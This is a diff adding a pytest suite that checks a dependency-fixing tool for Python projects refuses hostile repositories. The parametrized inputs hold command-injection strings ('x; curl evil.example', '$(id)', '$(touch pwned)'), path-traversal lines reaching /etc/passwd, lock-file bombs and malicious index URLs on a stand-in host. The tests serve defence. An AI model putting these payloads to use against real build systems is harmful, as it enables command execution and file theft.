@@ -1,0 +1,234 @@
+"""Hostile repositories: files that lead elsewhere, names that are commands, lock files as bombs."""
+
+import shlex
+
+import pytest
+
+from agents.pipelines.remediate.ladder import Refusal, Unfit, climb, ecosystem_of
+from agents.pipelines.remediate.ladder.pip import Pip
+from agents.pipelines.remediate.ladder.pip_compile import head_of
+from agents.pipelines.remediate.ladder.poetry import Poetry
+from agents.pipelines.remediate.ladder.python_index import objection
+from agents.pipelines.remediate.ladder.uv import Uv
+from tests.agents.pipelines.remediate.ladder.conftest import TERMS, group
+
+ALERTS = group("sqlparse", "< 0.5.0", manifests=["requirements.txt"])
+UV = """\
+version = 1
+revision = 5
+
+[[package]]
+name = "{name}"
+version = "{version}"
+source = {{ registry = "https://index.example/simple" }}
+wheels = [{{ url = "https://index.example/a.whl", hash = "sha256:{hash}" }}]
+"""
+PROJECT = '[project]\nname = "shop"\nversion = "1.0"\ndependencies = []\n'
+CONTENT = "0" * 64
+
+
+class Answers:
+    """What pip says: which releases there are, and nothing against any of them."""
+
+    def __call__(self, tree, script):
+        if "pip index" in script:
+            return 0, "Available versions: 0.6.0, 0.5.0, 0.4.4\n"
+        return 0, ""
+
+
+async def refused(tree, files, alerts=ALERTS):
+    """Climb; return the refusal, after looking that nothing changed."""
+    tree.lay(files)
+    tree.answers = tree.answers or Answers()
+    before = await tree.snapshot()
+    result = await climb(tree, ecosystem_of(tree.paths, alerts), alerts, TERMS)
+    assert isinstance(result, Refusal), result
+    assert await tree.snapshot() == before
+    return result
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r ../../etc/passwd", "-c ../outside.txt", "-r /etc/passwd", "--requirement=../x",
+        "-r a/../../x.txt", "-r https://evil.example/x.txt",
+    ],
+)  # fmt: skip
+async def test_a_requirements_file_leads_nowhere_else(tree, line):
+    refusal = await refused(tree, {"requirements.txt": f"sqlparse==0.4.4\n{line}\n"})
+    assert refusal.cause == "unsafe"
+    assert tree.ran == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://evil.example/simple", "-i https://evil.example/simple",
+        "--extra-index-url=https://u:hunter22@evil.example/simple",
+        "--find-links https://evil.example/", "evil @ https://evil.example/evil-1.0.tar.gz",
+        "-e git+https://evil.example/x.git#egg=x", "-e ../sibling", "./local/path",
+        "--trusted-host evil.example", "--no-binary :all:", "--pre", "file:///etc/passwd",
+    ],
+)  # fmt: skip
+async def test_no_option_of_a_requirements_file_reaches_pip(tree, line):
+    tree.lay({"requirements.txt": f"{line}\nsqlparse==0.4.4\n"})
+    given = []
+
+    def watched(tree, script):
+        given.extend(p.read_text() for p in tree.folder.glob(".fettle-*.txt"))
+        return Answers()(tree, script)
+
+    tree.answers = watched
+    fix = await climb(tree, ecosystem_of(tree.paths, ALERTS), ALERTS, TERMS)
+
+    assert (tree.folder / "requirements.txt").read_text() == f"{line}\nsqlparse==0.5.0\n"
+    assert given == ["sqlparse==0.5.0\n", ""]
+    seen = "".join(tree.ran) + "".join(given)
+    assert not [
+        word for word in ("evil.example", "sibling", "local/path", "passwd") if word in seen
+    ]
+    assert "hunter22" not in str(fix)
+
+
+@pytest.mark.parametrize(
+    "name", ["x; curl evil.example", "--index-url=x", "$(id)", "../x", "a\nb", "", "x" * 5 + "/y"]
+)
+async def test_an_alert_for_what_is_no_package_name_runs_nothing(tree, name):
+    alerts = group(name, "< 1.0", manifests=["requirements.txt"])
+    refusal = await refused(tree, {"requirements.txt": "sqlparse==0.4.4\n"}, alerts)
+    assert refusal.cause == "unsafe"
+    assert tree.ran == []
+
+
+@pytest.mark.parametrize("field", ["name", "version"])
+@pytest.mark.parametrize(
+    "evil", ["x\\nFETTLE-END\\ncurl evil.example", "$(touch pwned)", "1.0 --index-url=x", "'; id #"]
+)
+async def test_names_and_versions_of_a_lock_file_are_no_commands(tree, field, evil):
+    values = {"name": "jinja2", "version": "3.1.3", "hash": CONTENT, field: evil}
+    alerts = group("jinja2", "< 3.1.4", manifests=["uv.lock"])
+    refusal = await refused(
+        tree, {"uv.lock": UV.format(**values), "pyproject.toml": PROJECT}, alerts
+    )
+    assert refusal.cause == "unsafe"
+    assert tree.ran == []
+
+
+async def test_versions_that_an_index_made_up_are_quoted(tree):
+    tree.answers = lambda tree, script: (0, "")
+    await objection(tree, "x", "1.0'; touch pwned; '", 10)
+    assert shlex.quote("x==1.0'; touch pwned; '") in tree.ran[0]
+
+
+@pytest.mark.parametrize("link", ["uv.lock", "pyproject.toml"])
+async def test_a_linked_manifest_is_not_followed(tree, tmp_path, link):
+    good = {"uv.lock": UV.format(name="jinja2", version="3.1.3", hash=CONTENT)}
+    good["pyproject.toml"] = PROJECT
+    outside = tmp_path / "outside"
+    outside.write_text(good.pop(link))
+    tree.lay(good)
+    (tree.folder / link).symlink_to(outside)
+    alerts = group("jinja2", "< 3.1.4", manifests=["uv.lock"])
+    refusal = await refused(tree, {}, alerts)
+    assert (refusal.cause, link in refusal.reason) == ("unsafe", True)
+
+
+@pytest.mark.parametrize(
+    "lock",
+    [
+        "x = " + "[" * 20_000, "[[package]]\nname = 1\n" * 30_000, "package = 3", "\x00",
+        "# " + "x" * 17_000_000, "version = 1\npackage = [[1]]\n",
+    ],
+    ids=["deep", "many", "number", "binary", "large", "strange"],
+)  # fmt: skip
+@pytest.mark.parametrize("file", ["uv.lock", "poetry.lock"])
+async def test_a_lock_file_that_is_a_bomb_is_refused(tree, file, lock):
+    alerts = group("jinja2", "< 3.1.4", manifests=[file])
+    if file == "poetry.lock":
+        lock = f"{lock}\n[metadata]\nlock-version = '2.1'\n" if "package" in lock else lock
+    refusal = await refused(tree, {file: lock, "pyproject.toml": PROJECT}, alerts)
+    assert refusal.cause in ("unsafe", "unsupported")
+    assert tree.ran == []
+
+
+async def test_members_of_a_lock_file_stay_within_the_repository(tree):
+    member = '[[package]]\nname = "b"\nversion = "1"\nsource = { editable = "../../b" }\n'
+    tree.lay({"uv.lock": f"version = 1\n{member}", "pyproject.toml": PROJECT})
+    with pytest.raises(Unfit, match="leads out"):
+        await Uv("").read(tree)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "uv pip compile ../../etc/passwd -o requirements.txt",
+        "uv pip compile -c ../outside.txt in.in -o requirements.txt",
+        "pip-compile --output-file=requirements.txt /etc/passwd",
+    ],
+)
+def test_the_head_of_a_compiled_file_leads_nowhere_else(command):
+    with pytest.raises(Unfit):
+        head_of("requirements.txt", f"# autogenerated by uv \n#    {command}\n")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "uv pip compile in.in; curl evil.example", "pip-compile in.in --pip-args=--pre",
+        "uv pip compile in.in --python /tmp/evil", "uv pip compile 'in.in",
+        "pip-compile in.in $(id) --rebuild --config=x", "uv pip compile in.in --build-isolation=x",
+    ],
+)  # fmt: skip
+async def test_the_head_of_a_compiled_file_is_no_command(tree, command):
+    text = f"# This file was autogenerated by uv via\n#    {command}\nsqlparse==0.4.4\n"
+    refusal = await refused(tree, {"requirements.txt": text, "in.in": "sqlparse\n"})
+    assert not [script for script in tree.ran if "evil" in script or "pip-args" in script]
+    assert refusal.cause == "no_rung"
+
+
+async def test_a_file_of_hashes_that_the_index_contradicts_is_no_fix(tree):
+    line = f"sqlparse==0.4.4 --hash=sha256:{CONTENT}\n"
+
+    def answer(tree, script):
+        if "--generate-hashes" in script:
+            return 0, f"--hash=sha256:{'1' * 64}"
+        if "--require-hashes" in script:
+            return 0, "FETTLE sqlparse\nERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM ..."
+        return Answers()(tree, script)
+
+    tree.answers = answer
+    refusal = await refused(tree, {"requirements.txt": line})
+    assert "other files than the lock file says" in refusal.steps[1].why
+
+
+async def test_where_no_tool_can_be_had_the_refusal_says_so(tree):
+    tree.answers = lambda tree, script: (97, "No module named venv")
+    refusal = await refused(tree, {"requirements.txt": "sqlparse==0.4.4\n"})
+    assert refusal.cause == "no_tool"
+    assert "FETTLE_TOOLCHAINS" in refusal.reason
+
+
+@pytest.mark.parametrize(
+    ("first", "form", "cause"),
+    [
+        ("# This file is automatically @generated by Poetry 1.4.2 and", "2.0", "unsupported"),
+        ("# This file is automatically @generated by Poetry 9.9.9;id and", "1.1", ""),
+        ("", "1.1", "unsupported"), ("", "'; id", "unsupported"),
+    ],
+)  # fmt: skip
+async def test_the_release_that_wrote_a_lock_is_a_number(tree, first, form, cause):
+    lock = f'{first}\n[metadata]\nlock-version = "{form}"\n'
+    tree.lay({"poetry.lock": lock, "pyproject.toml": PROJECT})
+    poetry = Poetry("")
+    if cause:
+        with pytest.raises(Unfit):
+            await poetry.read(tree)
+    else:
+        await poetry.read(tree)
+        assert poetry._release == "9.9.9"
+
+
+async def test_requirements_that_include_each_other_end(tree):
+    tree.lay({"a.txt": "-r b.txt\nsix==1.0\n", "b.txt": "-r a.txt\n-r b.txt\nsqlparse==0.4.4\n"})
+    locked = await Pip(("a.txt",), tree.paths).read(tree)
+    assert [entry.name for entry in locked.entries] == ["sqlparse", "six"]
